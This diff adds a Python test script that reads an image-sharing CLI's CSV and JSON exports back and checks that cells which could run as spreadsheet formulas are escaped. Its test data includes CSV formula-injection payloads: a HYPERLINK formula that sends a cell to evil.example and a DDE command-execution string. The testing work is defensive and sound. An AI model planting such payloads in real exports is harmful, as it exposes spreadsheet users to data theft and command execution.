@@ -1,0 +1,174 @@
+#!/usr/bin/env python3
+"""Reads image-share-cli's exports back with Python's own csv and json modules.
+
+A second, independent reader next to the strict Rfc4180Parser of the C++ tests: what Python's csv module
+(the de-facto reader of data scripts) gets must be exactly what the simulator served, apart from the
+documented `'` put before a cell that a spreadsheet would run as a formula.
+
+Usage: check_csv.py --cli PATH/image-share-cli --simulator PATH/ecs-simulator
+"""
+
+import argparse
+import csv
+import io
+import json
+import os
+import subprocess
+import sys
+import tempfile
+
+KEY_ID = "LTAI5tDemoReadOnly0001"
+SECRET = "demo-secret-not-a-real-key"
+REGION = "cn-hangzhou"
+HEADER = ["RegionId", "ImageId", "ImageName", "Kind", "Principal", "SharedTime"]
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
+    "+SUM(1,2)",
+    "-2+3",
+    "@cmd",
+    "\tTabbed",
+    "\rCarriage return",
+    "Line one\nLine two",
+    "Windows\r\nbreak",
+    '"Quoted" name',
+    "a,b,c",
+    "生产-网关-基线",
+    '测试,"引号"\n换行',
+    "'already quoted",
+    "emoji 😀 image",
+    "trailing space ",
+    "=cmd|' /C calc'!A0",
+]
+STATUSES = ["Creating", "Waiting", "Available", "UnAvailable", "CreateFailed", "Deprecated"]
+
+
+def dataset():
+    images = []
+    for i, name in enumerate(HOSTILE):
+        accounts = [
+            {"AliyunId": "9%011d" % i, "SharedTime": "2024-02-01T09:00:00Z"},
+            {"AliyunId": HOSTILE[(i + 3) % len(HOSTILE)]},
+        ]
+        groups = [HOSTILE[(i + 7) % len(HOSTILE)]] if i % 2 else ["all"]
+        images.append({"RegionId": REGION, "ImageId": "m-py%02d" % i, "ImageName": name,
+                       "Status": STATUSES[i % len(STATUSES)], "OSName": "Linux",
+                       "CreationTime": "2024-01-31T08:00:00Z", "Size": 20,
+                       "Accounts": accounts, "ShareGroups": groups})
+    # Several pages of 50 accounts.
+    images.append({"RegionId": REGION, "ImageId": "m-pybig", "ImageName": "@big", "Status": "Available",
+                   "OSName": "Linux", "CreationTime": "2024-01-31T08:00:00Z", "Size": 20,
+                   "Accounts": [{"AliyunId": "8%011d" % a, "SharedTime": "2024-03-01T08:00:00Z"}
+                                for a in range(123)],
+                   "ShareGroups": []})
+    return {
+        "AccessKeys": [{"AccessKeyId": KEY_ID, "AccessKeySecret": SECRET}],
+        "Regions": [{"RegionId": REGION, "LocalName": "Hangzhou",
+                     "RegionEndpoint": "ecs.cn-hangzhou.aliyuncs.com"}],
+        "Images": images,
+    }
+
+
+def guarded(cell):
+    return "'" + cell if cell and cell[0] in "=+-@\t\r" else cell
+
+
+def expected_rows(data, image_id=None):
+    rows = []
+    for image in data["Images"]:
+        if image_id and image["ImageId"] != image_id:
+            continue
+        base = [image["RegionId"], image["ImageId"], image["ImageName"]]
+        for account in image.get("Accounts", []):
+            rows.append(base + ["Account", account["AliyunId"], account.get("SharedTime", "")])
+        for group in image.get("ShareGroups", []):
+            rows.append(base + ["Group", group, ""])
+    return rows
+
+
+def run_cli(cli, endpoint, args):
+    env = {k: v for k, v in os.environ.items() if not k.startswith("ALIBABA_CLOUD_")}
+    env["ALIBABA_CLOUD_ACCESS_KEY_ID"] = KEY_ID
+    env["ALIBABA_CLOUD_ACCESS_KEY_SECRET"] = SECRET
+    result = subprocess.run([cli, "--endpoint", endpoint] + args, env=env, capture_output=True, timeout=120)
+    if result.returncode != 0:
+        raise AssertionError("image-share-cli %s failed (%d): %s"
+                             % (" ".join(args), result.returncode, result.stderr.decode()))
+
+
+def check_csv(path, bom, rows):
+    raw = open(path, "rb").read()
+    assert raw.startswith(b"\xef\xbb\xbf") == bom, "BOM expected: %s" % bom
+    assert raw.endswith(b"\r\n"), "records end with CRLF"
+    # newline="" as the csv module's documentation requires: line breaks inside quoted cells stay as written.
+    with open(path, newline="", encoding="utf-8-sig" if bom else "utf-8") as f:
+        records = list(csv.reader(f, strict=True))
+    assert records[0] == HEADER, records[0]
+    want = [[guarded(cell) for cell in row] for row in rows]
+    assert len(records) - 1 == len(want), "%d records, expected %d" % (len(records) - 1, len(want))
+    for got, exp in zip(records[1:], want):
+        assert got == exp, "\n got: %r\nwant: %r" % (got, exp)
+    # The same text through a csv.writer (excel dialect) gives the same bytes: nothing non-standard.
+    out = io.StringIO(newline="")
+    csv.writer(out, lineterminator="\r\n").writerows(records)
+    text = raw.decode("utf-8-sig" if bom else "utf-8")
+    assert out.getvalue() == text, "the file differs from what Python's csv.writer would write"
+
+
+def check_json(path, data):
+    document = json.load(open(path, encoding="utf-8"))
+    assert list(document.keys()) == ["ExportedAt", "Endpoint", "RegionId", "Images"], list(document.keys())
+    images = [i for i in data["Images"] if i["RegionId"] == REGION]
+    assert len(document["Images"]) == len(images)
+    for got, image in zip(document["Images"], images):
+        assert got["ImageId"] == image["ImageId"]
+        assert got["ImageName"] == image["ImageName"], "no ' prefix in JSON"
+        assert [a["AliyunId"] for a in got["Accounts"]] == [a["AliyunId"] for a in image["Accounts"]]
+        assert [g["Group"] for g in got["ShareGroups"]] == image["ShareGroups"]
+
+
+def main():
+    parser = argparse.ArgumentParser()
+    parser.add_argument("--cli", required=True)
+    parser.add_argument("--simulator", required=True)
+    options = parser.parse_args()
+
+    data = dataset()
+    with tempfile.TemporaryDirectory() as folder:
+        data_path = os.path.join(folder, "data.json")
+        with open(data_path, "w", encoding="utf-8") as f:
+            json.dump(data, f, ensure_ascii=False)
+        simulator = subprocess.Popen([options.simulator, "--data", data_path], stdout=subprocess.PIPE,
+                                     stderr=subprocess.DEVNULL, text=True)
+        try:
+            line = simulator.stdout.readline().strip()
+            assert line.startswith("listening on "), line
+            endpoint = line[len("listening on "):]
+
+            for bom in (False, True):
+                path = os.path.join(folder, "region-%s.csv" % bom)
+                args = ["export", "--region", REGION, "--all-images", "--output", path]
+                run_cli(options.cli, endpoint, args + (["--bom"] if bom else []))
+                check_csv(path, bom, expected_rows(data))
+
+            path = os.path.join(folder, "image.csv")
+            run_cli(options.cli, endpoint, ["export", "--region", REGION, "--image", "m-pybig", "--output", path])
+            check_csv(path, False, expected_rows(data, "m-pybig"))
+
+            path = os.path.join(folder, "region.json")
+            run_cli(options.cli, endpoint, ["export", "--region", REGION, "--all-images", "--format", "json",
+                                            "--output", path])
+            check_json(path, data)
+        finally:
+            simulator.terminate()
+            simulator.wait(10)
+    print("ok: CSV and JSON exports read back with Python's csv and json modules")
+    return 0
+
+
+if __name__ == "__main__":
+    try:
+        sys.exit(main())
+    except AssertionError as error:
+        print("FAIL:", error, file=sys.stderr)
+        sys.exit(1)
